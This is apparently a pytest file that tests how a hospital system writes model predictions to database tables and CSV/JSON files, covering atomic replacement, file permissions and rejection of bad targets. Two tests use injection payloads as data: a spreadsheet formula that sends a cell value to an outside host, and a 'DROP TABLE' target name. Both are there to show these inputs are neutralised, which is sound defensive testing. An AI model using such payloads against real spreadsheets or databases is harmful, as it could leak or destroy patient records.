"""Predictions into a table or a file of the hospital: all of a model or none, in the
three databases, and at the times of a schedule.
"""

from __future__ import annotations

import csv
import json
import os
import stat
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from agents.rows.predictions import Target, target_of, write_predictions
from protocol.errors import BadRequest, ConsiliumError
from tests.made_databases import MARIADB, POSTGRES, create_schema, drop_schema

MADE = datetime(2026, 3, 1, 6, tzinfo=UTC)
NUMBERS = [{"id": "7", "label": 0.25}, {"id": "9", "label": None, "reason": "no age"}]
CLASSES = [
    {"id": "7", "label": "flu", "probabilities": {"flu": 0.75, "cold": 0.25}},
    {"id": "9", "label": "cold", "probabilities": {"flu": 0.4, "cold": 0.6}},
]
SCHEMA = f"consilium_predictions_{os.getpid()}"
SERVERS = {"postgres": POSTGRES, "mariadb": MARIADB}


@pytest.fixture(params=["duckdb", "postgres", "mariadb"])
def url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """A database with an empty schema."""
    if request.param == "duckdb":
        address = f"duckdb:///{tmp_path}/predictions.duckdb"
    else:
        address = SERVERS[request.param]
    create_schema(address, SCHEMA)
    yield address
    drop_schema(address, SCHEMA)


def kept(url: str, table: str) -> list[tuple[Any, ...]]:
    engine = sa.create_engine(url, poolclass=sa.pool.NullPool)
    query = f"SELECT model_id, id, label, value, reason FROM {SCHEMA}.{table} ORDER BY model_id, id"
    with engine.begin() as connection:
        return [tuple(row) for row in connection.exec_driver_sql(query)]


def write(url: str, table: str, entries: list[dict[str, Any]], model_id: int) -> None:
    target = Target(table=f"{SCHEMA}.{table}", url=url)
    write_predictions(entries, target, model_id=model_id, made=MADE)


def test_a_model_s_predictions_are_replaced_and_others_stay(url: str) -> None:
    write(url, "scores", NUMBERS, 1)
    write(url, "scores", NUMBERS[:1], 2)
    expected = [
        (1, "7", None, 0.25, None),
        (1, "9", None, None, "no age"),
        (2, "7", None, 0.25, None),
    ]
    assert kept(url, "scores") == expected
    write(url, "scores", [{"id": "8", "label": 0.5}], 1)
    assert kept(url, "scores") == [(1, "8", None, 0.5, None), expected[2]]


def test_classes_are_texts_with_their_probability(url: str) -> None:
    """Beside numbers of another model, in the same table."""
    write(url, "scores", NUMBERS, 2)
    write(url, "scores", CLASSES, 3)
    assert kept(url, "scores") == [
        (2, "7", None, 0.25, None),
        (2, "9", None, None, "no age"),
        (3, "7", "flu", 0.75, None),
        (3, "9", "cold", 0.6, None),
    ]


def test_a_failure_half_way_leaves_what_was_there(url: str) -> None:
    write(url, "scores", NUMBERS, 1)
    before = kept(url, "scores")
    too_long = [{"id": "7", "label": 1.0}, {"id": "8", "label": 1.0, "reason": None}]
    too_long[1]["id"] = None
    with pytest.raises(ConsiliumError) as refused:
        write(url, "scores", too_long, 1)
    assert "7" not in refused.value.sentence
    assert kept(url, "scores") == before


def test_a_table_of_other_columns_is_not_written_to(url: str) -> None:
    engine = sa.create_engine(url, poolclass=sa.pool.NullPool)
    with engine.begin() as connection:
        connection.exec_driver_sql(f"CREATE TABLE {SCHEMA}.visits (id INTEGER)")
    with pytest.raises(BadRequest, match="has no column label, made, model_id"):
        write(url, "visits", NUMBERS, 1)


def test_a_class_of_another_hospital_is_no_formula_here(tmp_path: Path) -> None:
    """The csv is opened by a spreadsheet, which would run it."""
    label = '=HYPERLINK("http://elsewhere/"&A2)'
    entries = [{"id": "7", "label": label, "probabilities": {label: 0.75}}]
    path = tmp_path / "scores.csv"
    target = target_of(str(path), predictions_url=None)
    write_predictions(entries, target, model_id=4, made=MADE)
    with path.open() as file:
        (row,) = csv.DictReader(file)
    assert row["label"] == f"'{label}"


def test_files_are_whole_and_their_owner_s(tmp_path: Path) -> None:
    for name in ("scores.csv", "scores.json"):
        path = tmp_path / name
        for entries in (CLASSES, NUMBERS):
            target = target_of(str(path), predictions_url=None)
            write_predictions(entries, target, model_id=4, made=MADE)
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with (tmp_path / "scores.csv").open() as file:
        rows = list(csv.DictReader(file))
    assert [(row["id"], row["value"], row["reason"]) for row in rows] == [
        ("7", "0.25", ""),
        ("9", "", "no age"),
    ]
    lines = (tmp_path / "scores.json").read_text().splitlines()
    assert json.loads(lines[0])["value"] == 0.25
    assert sorted(os.listdir(tmp_path)) == ["scores.csv", "scores.json"]


@pytest.mark.parametrize(
    ("into", "words"),
    [
        ("data.scores", "Set predictions_url in settings.toml"),
        ("scores.xlsx.", "names no table and no file"),
        ("a.b.c", "names no table and no file"),
        ("scores; DROP TABLE x", "names no table and no file"),
    ],
)
def test_a_target_that_is_none(into: str, words: str) -> None:
    with pytest.raises(BadRequest, match=words):
        target_of(into, predictions_url=None)


def test_a_folder_that_is_not_there(tmp_path: Path) -> None:
    target = target_of(str(tmp_path / "nowhere" / "a.csv"), predictions_url=None)
    with pytest.raises(BadRequest, match="is no folder"):
        write_predictions(NUMBERS, target, model_id=1)
